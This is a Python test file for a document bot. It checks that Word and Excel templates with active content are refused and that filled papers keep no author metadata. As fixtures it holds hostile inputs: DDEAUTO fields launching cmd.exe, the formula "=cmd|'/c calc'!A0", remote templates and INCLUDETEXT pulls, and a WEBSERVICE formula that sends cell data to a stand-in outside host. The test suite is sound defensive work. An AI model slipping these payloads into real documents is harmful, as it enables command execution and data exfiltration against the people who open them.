"""Templates that run or fetch something are refused; papers know nothing of whoever changed the template."""

import zipfile
from collections.abc import Callable
from io import BytesIO
from typing import Any

import pytest
from docx import Document
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from openpyxl import load_workbook
from openpyxl.comments import Comment
from openpyxl.packaging.custom import StringProperty
from openpyxl.workbook.defined_name import DefinedName

from bot.documents.reports.report_fill import fill
from bot.documents.reports.report_template import report_template
from bot.documents.word.docx_build import template
from bot.documents.word.docx_fill import docx
from bot.documents.word.office_active import ACTIVE, is_active
from bot.documents.word.template_check import check_template, sample
from bot.documents.word.template_fields import fields_of
from tests.unit.documents.word_template import element, field

PACK, PAPER = "2022-2025", "posting_notice"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SECRET = "Nguyễn Văn Kín"
Change = Callable[[Any], object]


def changed(how: Change) -> bytes:
    document: Any = Document(BytesIO(template(PACK, PAPER)))
    how(document)
    out = BytesIO()
    document.save(out)
    return out.getvalue()


def outside(kind: str, target: str) -> Change:
    return lambda document: document.part.relate_to(target, f"{OFFICE}/{kind}", is_external=True)


def part(name: str, kind: str, of: str = "application/octet-stream", content: bytes = b"x") -> Change:
    def how(document: Any) -> None:
        package = document.part.package
        document.part.relate_to(Part(PackURI(name), of, content, package), f"{OFFICE}/{kind}")

    return how


def split_field(document: Any) -> None:
    """The name of the field in two runs, as Word may leave it."""
    paragraph = document.add_paragraph()
    element(paragraph.add_run()._r, "fldChar", fldCharType="begin")
    for piece in ("DDE", "AUTO excel x"):
        element(paragraph.add_run()._r, "instrText").text = piece
    element(paragraph.add_run()._r, "fldChar", fldCharType="end")


def made_by_a_field(document: Any) -> None:
    """{ { QUOTE 68 68 69 } … }: an instruction that another field makes."""
    paragraph = document.add_paragraph()
    element(paragraph.add_run()._r, "fldChar", fldCharType="begin")
    field(paragraph, "PAGE")
    element(paragraph.add_run()._r, "fldChar", fldCharType="end")


WORD: dict[str, Change] = {
    "remote picture": outside("image", "http://ngoai.example/a.png"),
    "remote template": outside("attachedTemplate", "http://ngoai.example/a.dotm"),
    "template of a shared folder": outside("attachedTemplate", "file:///\\\\may\\a.dotm"),
    "linked object": outside("oleObject", "file:///C:\\a.xls"),
    "a link that runs": outside("hyperlink", "file:///C:/a.exe"),
    "macro": part("/word/vbaProject.bin", "vbaProject", "application/vnd.ms-office.vbaProject"),
    "macro under another name": part("/word/a.bin", "image", "application/vnd.ms-office.vbaProject"),
    "embedded": part("/word/embeddings/a.bin", "package"),
    "control": part("/word/activeX/a.bin", "control"),
    "dde": lambda one: field(one.add_paragraph(), "DDEAUTO c:\\\\cmd.exe /k"),
    "dde in pieces": split_field,
    "dde in disguise": made_by_a_field,
    "remote text": lambda one: field(one.add_paragraph(), 'INCLUDETEXT "http://ngoai.example/a"'),
    "simple field": lambda one: element(one.add_paragraph()._p, "fldSimple", instr=" DDE a b "),
}


@pytest.mark.parametrize("name", WORD)
def test_a_word_template_that_does_something_is_refused(name: str) -> None:
    assert check_template(PACK, PAPER, changed(WORD[name])).fault == ACTIVE


@pytest.mark.parametrize(
    "how",
    [
        outside("hyperlink", "https://xa.example/thong-bao"),
        outside("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm"),
        lambda one: field(one.add_paragraph(), "NUMPAGES"),
        lambda one: field(one.add_paragraph(), ' DATE \\@ "dd/MM/yyyy" '),
    ],
)
def test_what_only_says_something_may_stay(how: Change) -> None:
    assert not is_active(changed(how))


# ── workbooks ────────────────────────────────────────────────────────────────────────────────
FORMULAS = (
    '=WEBSERVICE("http://ngoai.example/"&A1)',
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://ngoai.example/"&A1)',
    "=[1]Sheet1!A1",
    '=IF(1,_xlfn.IMAGE("http://ngoai.example"),0)',
    "='\\\\may\\[a.xlsx]b'!A1",
)


def workbook(how: Change) -> bytes:
    book: Any = load_workbook(BytesIO(report_template(PACK)))
    how(book)
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def put(formula: str) -> Change:
    return lambda book: book.worksheets[0].cell(2, 40, formula)


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_workbook_that_fetches_is_refused(formula: str) -> None:
    assert check_template(PACK, "reports", workbook(put(formula))).fault == ACTIVE


def test_a_named_place_that_fetches_is_refused() -> None:
    name = DefinedName("a", attr_text="cmd|'/c calc'!A0")
    file = workbook(lambda book: book.defined_names.add(name))
    assert check_template(PACK, "reports", file).fault == ACTIVE


def test_ordinary_formulas_and_words_may_stay() -> None:
    assert not is_active(workbook(put("=ROUND(SUM(A1:B2)/COUNT(A1:B2),2)")))
    assert not is_active(workbook(put("Gọi (CALL) | xem http://xa.example")))


# ── what a paper knows ───────────────────────────────────────────────────────────────────────
def authored(document: Any) -> None:
    """As a file comes out of somebody's Word."""
    known = document.core_properties
    known.author = known.last_modified_by = known.comments = known.subject = known.keywords = SECRET
    inside = f"<x>{SECRET}</x>".encode()
    part("/word/comments.xml", "comments", "application/xml", inside)(document)
    part("/customXml/item9.xml", "customXml", "application/xml", inside)(document)
    package = document.part.package
    own = Part(PackURI("/docProps/custom.xml"), "application/xml", inside, package)
    package.relate_to(own, f"{OFFICE}/custom-properties")
    app = next(one for one in package.iter_parts() if str(one.partname) == "/docProps/app.xml")
    app._blob = f'<Properties xmlns="x"><Manager>{SECRET}</Manager></Properties>'.encode()
    outside("attachedTemplate", "file:///C:\\Users\\Kin\\Normal.dotm")(document)


def test_a_paper_knows_nothing_of_whoever_changed_the_template() -> None:
    file = changed(authored)
    assert check_template(PACK, PAPER, file).usable
    made = docx(file, sample(fields_of(file)))
    with zipfile.ZipFile(BytesIO(made)) as packed:
        contents = {name: packed.read(name) for name in packed.namelist()}
    assert not [name for name, data in contents.items() if SECRET.encode() in data or b"Users" in data]
    assert not [name for name in contents if "custom" in name or "comment" in name or "thumbnail" in name]
    known = Document(BytesIO(made)).core_properties
    assert (known.author, known.last_modified_by, known.comments, known.keywords) == ("", "", "", "")


def test_a_workbook_knows_nothing_of_whoever_changed_the_template(monkeypatch: pytest.MonkeyPatch) -> None:
    def how(book: Any) -> None:
        book.properties.creator = book.properties.lastModifiedBy = SECRET
        book.custom_doc_props.append(StringProperty(name="a", value=SECRET))
        book.worksheets[0]["A1"].comment = Comment(SECRET, SECRET)

    made: list[bytes] = []

    def kept(*args: Any) -> bytes:
        made.append(fill(*args))
        return made[-1]

    monkeypatch.setattr("bot.documents.reports.report_check.fill", kept)
    file = workbook(how)
    assert check_template(PACK, "reports", file).usable
    with zipfile.ZipFile(BytesIO(made[-1])) as packed:
        assert not [name for name in packed.namelist() if SECRET.encode() in packed.read(name)]
    assert load_workbook(BytesIO(made[-1])).sheetnames == load_workbook(BytesIO(file)).sheetnames
